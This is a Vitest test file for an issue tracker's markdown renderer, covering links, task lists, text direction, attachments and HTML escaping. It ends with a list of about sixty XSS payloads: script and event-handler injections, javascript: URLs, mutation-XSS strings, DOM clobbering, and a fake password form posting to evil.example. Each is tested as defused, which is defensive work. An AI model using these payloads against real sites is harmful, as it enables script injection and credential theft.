import { describe, expect, it } from 'vitest';
import { render } from './markdown-renderer.ts';

function dom(text: string): HTMLElement {
	const box = document.createElement('div');
	box.innerHTML = render(text) as unknown as string;
	return box;
}

describe('render', () => {
	it('renders what people write', () => {
		const box = dom(
			'# Title\n\n- [x] done\n- [ ] open\n\n`code` **bold** https://example.com\n\n| a |\n| - |\n| 1 |'
		);
		expect(box.querySelector('h1')?.textContent).toBe('Title');
		expect(box.querySelectorAll('input[type=checkbox][disabled]')).toHaveLength(2);
		expect(box.querySelector('input')?.hasAttribute('checked')).toBe(true);
		expect(box.querySelector('code')?.textContent).toBe('code');
		expect(box.querySelector('td')?.textContent).toBe('1');
		expect(box.querySelector('a')?.getAttribute('href')).toBe('https://example.com');
	});

	it('opens foreign pages without a handle on this one', () => {
		const link = dom('[x](https://example.com)').querySelector('a');
		expect(link?.getAttribute('rel')).toContain('noopener');
		expect(link?.getAttribute('target')).toBe('_blank');
	});

	it('keeps links inside the tracker in this page', () => {
		expect(dom('[x](/issues/1)').querySelector('a')?.hasAttribute('target')).toBe(false);
	});

	it('links the issues that a text quotes, but not in code, links and words', () => {
		const box = dom(
			'Like #42, (#7) and **#8**. Not `#1`, [see #2](/board), a#3, #5px, #1.5, #06 or https://example.com/#9\n\n- #10'
		);
		const links = [...box.querySelectorAll('a[href^="/issues/"]')];
		expect(links.map((link) => [link.getAttribute('href'), link.textContent])).toEqual([
			['/issues/42', '#42'],
			['/issues/7', '#7'],
			['/issues/8', '#8'],
			['/issues/10', '#10']
		]);
		expect(box.querySelectorAll('a a')).toHaveLength(0);
		expect(dom('<i> & #4').textContent.trim()).toBe('<i> & #4');
	});

	it('lets each part of a text go the way that it is written', () => {
		const box = dom('# عنوان\n\ntext\n\n- نقطة');
		expect([...box.children].map((part) => [part.tagName, part.getAttribute('dir')])).toEqual([
			['H1', 'auto'],
			['P', 'auto'],
			['UL', 'auto']
		]);
	});

	it('leaves a place for each file of the issue, and no picture that is loaded from elsewhere', () => {
		const box = dom(
			'![Login "page"](attachment:log%20in.png) [the log](<attachment:a b.log>) ![](https://evil.example/pixel.gif)' +
				' ![cat](/cat.png) [![state](https://ci.example/badge.svg)](https://ci.example) ![x](attachment:a":b.png)'
		);
		const places = [...box.querySelectorAll<HTMLElement>('span[data-file]')];
		expect(places.map(({ dataset, textContent }) => [dataset.as, dataset.file, textContent])).toEqual([
			['picture', 'log in.png', 'Login "page"'],
			['link', 'a b.log', 'the log'],
			['picture', 'a":b.png', 'x']
		]);
		expect(box.querySelector('img')).toBeNull();
		expect(
			[...box.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.textContent])
		).toEqual([
			['https://evil.example/pixel.gif', 'https://evil.example/pixel.gif'],
			['/cat.png', 'cat'],
			['https://ci.example', 'state']
		]);
	});

	it('names the boxes of a task list by their tasks', () => {
		const inputs = [...dom('- [ ] write **it**\n  - [x] inner').querySelectorAll('input')];
		expect(inputs.map((input) => input.ariaLabel ?? input.getAttribute('aria-label'))).toEqual([
			'write it',
			'inner'
		]);
	});

	it('shows HTML as the text that it is', () => {
		expect(dom('Use <Foo bar="1"> and `<b>`').textContent.trim()).toBe('Use <Foo bar="1"> and <b>');
		expect(dom('<div>\n  <b>x</b>\n</div>\n\n<p>').innerHTML.replaceAll(/\s+/g, '')).toBe(
			'<pdir="auto">&lt;div&gt;<br>&lt;b&gt;x&lt;/b&gt;<br>&lt;/div&gt;</p><pdir="auto">&lt;p&gt;</p>'
		);
		expect(dom('a < b && c > d').textContent.trim()).toBe('a < b && c > d');
		expect(dom('&lt;b&gt; &amp;amp;').textContent.trim()).toBe('<b> &amp;');
	});

	it('knows the tags that Markdown has no sign for, and leaves comments out', () => {
		const box = dom(
			'<details><summary>More</summary>\n\nPress <kbd>Ctrl</kbd>\n\n</details>\n\n<!-- hidden -->'
		);
		expect(box.querySelector('details > summary')?.textContent).toBe('More');
		expect(box.querySelector('details kbd')?.textContent).toBe('Ctrl');
		expect(box.textContent).not.toContain('hidden');
		expect(dom('<kbd onclick="alert(1)">x</kbd>').querySelector('kbd')).toBeNull();
	});

	// Each of these ran a script in some tracker or sanitiser.
	const attacks = [
		'<script>alert(1)</script>',
		'<img src=x onerror=alert(1)>',
		'<img src=x oNeRrOr=alert(1)//',
		'<svg onload=alert(1)>',
		'<svg><script>alert(1)</script></svg>',
		'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		'<a href="javascript:alert(1)">x</a>',
		'<a href="JaVaScRiPt:alert(1)">x</a>',
		'<a href="java\nscript:alert(1)">x</a>',
		'<a href="&#106;avascript:alert(1)">x</a>',
		'<a href=" javascript:alert(1)">x</a>',
		'<a href="data:text/html,<script>alert(1)</script>">x</a>',
		'<a href="vbscript:msgbox(1)">x</a>',
		'[x](javascript:alert(1))',
		'[x](javascript&#58;alert(1))',
		'[x](&#x6A;avascript:alert(1))',
		'[x]( java\tscript:alert(1))',
		'[x]: javascript:alert(1)\n\n[x]',
		'<javascript:alert(1)>',
		'![x](javascript:alert(1))',
		'![x"onerror="alert(1)](x)',
		'![x](x "onerror=alert(1) ")',
		'[x](x "\\"onmouseover=alert(1)")',
		'<iframe src="javascript:alert(1)"></iframe>',
		'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		'<object data="javascript:alert(1)"></object>',
		'<embed src="javascript:alert(1)">',
		'<base href="https://evil.example/">',
		'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
		'<link rel="stylesheet" href="https://evil.example/x.css">',
		'<style>*{background:url(https://evil.example)}</style>',
		'<div style="position:fixed;inset:0">x</div>',
		'<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
		'<input type="password" name="password">',
		'<input type="image" src=x onerror=alert(1)>',
		'<textarea autofocus onfocus=alert(1)>',
		'<details open ontoggle=alert(1)>',
		'<video src=x onerror=alert(1)></video>',
		'<audio src=x onerror=alert(1)></audio>',
		'<marquee onstart=alert(1)>',
		'<isindex type=image src=1 onerror=alert(1)>',
		'<template><img src=x onerror=alert(1)></template>',
		'<a id="login" name="login" class="fixed inset-0">x</a>',
		'<img name="body"><img name="cookie" id="cookie">',
		'<table background="javascript:alert(1)">',
		'<x contenteditable onblur=alert(1)>',
		'```html\n<script>alert(1)</script>\n```',
		'```"><img src=x onerror=alert(1)>\ncode\n```',
		'`<img src=x onerror=alert(1)>`',
		'<!--><img src=x onerror=alert(1)-->',
		'<![CDATA[<img src=x onerror=alert(1)>]]>',
		'<xss><!ENTITY x "y">',
		'\u0000<scr\u0000ipt>alert(1)</script>',
		'<a href="https://example.com" onclick="alert(1)" target="_top">x</a>',
		'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
		'<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x">',
		'![x](attachment:"onclick=alert(1)//)',
		'[<img src=x onerror=alert(1)>](attachment:<img%20src=x%20onerror=alert(1)>)'
	];

	it.each(attacks)('defuses %s', (attack) => {
		const box = dom(attack);
		const forbidden =
			'script, style, iframe, object, embed, img, base, meta, link, form, button, textarea, svg, math, template, video, audio, input:not([type=checkbox])';
		expect(box.querySelector(forbidden)).toBeNull();
		for (const element of box.querySelectorAll('*')) {
			for (const { name, value } of element.attributes) {
				expect(name).not.toMatch(/^on|^style$|^class$|^id$|^name$|^srcdoc$|:/);
				if (name === 'href') expect(value.replaceAll(/\s/g, '')).toMatch(/^(https?:|mailto:|[^a-z]|[^:]*$)/i);
				if (name === 'src') expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
			}
		}
	});
});
